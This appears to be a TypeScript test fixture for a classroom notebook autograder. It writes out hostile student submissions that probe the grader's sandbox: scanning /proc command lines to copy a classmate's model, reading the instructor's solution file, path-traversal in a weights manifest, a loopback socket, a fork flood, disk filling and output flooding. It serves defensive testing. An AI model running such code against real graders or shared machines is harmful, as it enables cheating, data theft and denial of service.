/**
 * A class some of whose students try things: each notebook below is one attack a cheating or
 * careless student could make on the grader, written as such a student would write it.
 */
import { CLASSIFICATION_CELLS } from './submissions';

const [IMPORTS, BUILD, TRAIN, SAVE] = CLASSIFICATION_CELLS.good;

/** What the attacks need to know about the class being graded (paths and ports the test made). */
export interface Targets {
  /** A file the instructor keeps beside the class folder. */
  solutionFile: string;
  /** A classmate's folder name, whose weights the manifest attack points at. */
  classmate: string;
  /** A TCP port listening on the grader's loopback. */
  port: number;
}

/** Finds the class folder in other processes' command lines (/proc/<pid>/cmdline) and copies a classmate's saved model. */
const STEAL = `const fs = require('node:fs');
const path = require('node:path');
const args: string[] = [];
for (const pid of fs.readdirSync('/proc').filter((p: string) => /^\\d+$/.test(p))) {
  try { args.push(...fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0')); } catch {}
}
const isClass = (dir: string) => { try { return fs.readdirSync(dir).some((s: string) => fs.existsSync(path.join(dir, s, 'modele', 'modele.json'))); } catch { return false; } };
const classes = [...new Set(args.filter((a) => a.startsWith('/') && isClass(a)))];
console.log('dossiers de classe trouvés :', classes.length);
for (const dir of classes) for (const student of fs.readdirSync(dir)) {
  const model = path.join(dir, student, 'modele');
  if (fs.existsSync(path.join(model, 'modele.json'))) { fs.cpSync(model, 'modele', { recursive: true }); console.log('modèle copié depuis', student); break; }
}`;

/** The classification notebook's code cells of each attack. */
export function hostileCells(targets: Targets): Record<string, string[]> {
  return {
    // No training of its own: only a classmate's model would earn points.
    'vole-un-camarade': [IMPORTS, STEAL],
    'lit-la-solution': [IMPORTS, `console.log(require('node:fs').readFileSync(${JSON.stringify(targets.solutionFile)}, 'utf8'));`, BUILD, TRAIN, SAVE],
    'poids-hors-du-dossier': [
      IMPORTS,
      BUILD,
      TRAIN,
      SAVE,
      `const fs = require('node:fs');
const description = JSON.parse(fs.readFileSync('modele/modele.json', 'utf8'));
description.weightsManifest[0].paths = ['../../${targets.classmate}/modele/modele.weights.bin'];
delete description.userDefinedMetadata;
fs.writeFileSync('modele/modele.json', JSON.stringify(description));
fs.rmSync('modele/modele.weights.bin');`,
    ],
    reseau: [
      IMPORTS,
      `await new Promise((resolve, reject) => {
  const socket = require('node:net').connect(${targets.port}, '127.0.0.1', () => { socket.end('copie de mon notebook'); resolve(null); });
  socket.on('error', reject);
});`,
      BUILD,
      TRAIN,
      SAVE,
    ],
    'mille-processus': [
      IMPORTS,
      `const { spawn } = require('node:child_process');
const kept: unknown[] = [];
let refused = 0;
for (let i = 0; i < 1000; i++) { const child = spawn('/usr/bin/sleep', ['600']); child.on('error', () => refused++); kept.push(child); }
await new Promise((resolve) => setTimeout(resolve, 10_000));
console.log('processus refusés :', refused);`,
      BUILD,
      TRAIN,
      SAVE,
    ],
    'disque-plein': [
      IMPORTS,
      `const fs = require('node:fs');
const chunk = Buffer.alloc(50 * 1024 * 1024, 1);
for (let i = 0; i < 60; i++) { fs.writeFileSync('/tmp/remplissage-' + i, chunk); await new Promise((resolve) => setTimeout(resolve, 100)); }`,
      BUILD,
      TRAIN,
      SAVE,
    ],
    // 1.5 GB of output, then the normal lab: the grader keeps a bounded part and grades the rest.
    'inonde-la-sortie': [IMPORTS, `const line = 'x'.repeat(999_999);\nfor (let i = 0; i < 1500; i++) console.log(line);`, BUILD, TRAIN, SAVE],
  };
}

/** An honest submission, signed by its author in a comment (so honest notebooks differ). */
export function honestCells(author: string): string[] {
  return [`// ${author}\n${IMPORTS}`, BUILD, TRAIN, SAVE];
}
